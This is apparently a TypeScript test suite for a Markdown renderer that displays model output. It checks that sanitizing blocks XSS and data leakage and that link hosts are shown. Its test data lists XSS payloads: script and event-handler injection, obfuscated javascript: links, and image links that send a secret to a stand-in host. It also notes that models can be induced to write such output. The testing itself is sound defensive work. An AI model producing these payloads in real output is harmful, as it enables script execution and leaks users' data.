import { renderToStaticMarkup } from 'react-dom/server';
import { expect, test } from 'vitest';
import Markdown, { hostOf } from '../src/components/markdown';

const html = (text: string) => renderToStaticMarkup(<Markdown text={text} />);

// What a model may be made to write. Nothing of it may run, load or send anything, and no link may hide where it leads.
test.each([
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<iframe src="https://evil.test"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<style>@import "https://evil.test"</style>',
  '<form action="https://evil.test"><input name=a></form>',
  '<base href="https://evil.test">',
  '<meta http-equiv="refresh" content="0;url=https://evil.test">',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](blob:https://evil.test/1)',
  '[x](file:///etc/passwd)',
  '![leak](https://evil.test/?q=secret)',
  '![leak][1]\n\n[1]: https://evil.test/?q=secret',
  '[![leak](https://evil.test/?q=secret)](https://example.com)',
  '<video src="https://evil.test" autoplay></video>',
  '<object data="https://evil.test"></object>',
  '<div onclick="alert(1)" style="background:url(https://evil.test)">x</div>',
  '<details open ontoggle=alert(1)>x</details>',
  '<math href="javascript:alert(1)">x</math>',
])('%s does nothing', (text) => {
  const out = html(text);
  expect(out).not.toMatch(/<(script|img|svg|iframe|style|form|base|meta|video|object|math|source|picture|link)\b/i);
  expect(out).not.toMatch(/<[^>]* on\w+=/i);
  expect(out).not.toMatch(/<[^>]* style=/i);
  for (const [, href] of out.matchAll(/href="([^"]*)"/g)) expect(href).toMatch(/^https?:\/\//);
});

test('a link shows its host and leaves without a trace', () => {
  expect(html('[example.com](https://evil.test/a)')).toContain('<a href="https://evil.test/a" target="_blank" rel="noopener noreferrer nofollow" class="underline">example.com <span class="text-xs text-mute">(evil.test)</span></a>');
  expect(html('[x](//evil.test/a)')).toContain('(evil.test)');
  expect(html('[x](/console/keys)')).not.toContain('href', );
});

test.each([
  ['https://a.test/b', 'a.test'], ['http://user@a.test:1/', 'a.test:1'], ['//a.test', 'a.test'], ['/a', ''], ['a', ''], ['#a', ''], ['mailto:a@b.test', ''], ['javascript://a.test', ''], [undefined, ''], ['https://', ''],
])('hostOf(%s) is %j', (href, want) => expect(hostOf(href)).toBe(want));

test('ordinary text is formatted', () => {
  const out = html('# Title\n\n**bold** `code`\n\n- a\n- b\n\n| x | y |\n|---|---|\n| 1 | 2 |\n\n```go\nfunc main() {}\n```');
  for (const part of ['<h1>Title</h1>', '<strong>bold</strong>', '<code>code</code>', '<li>a</li>', '<td>1</td>', 'func main() {}']) expect(out).toContain(part);
});
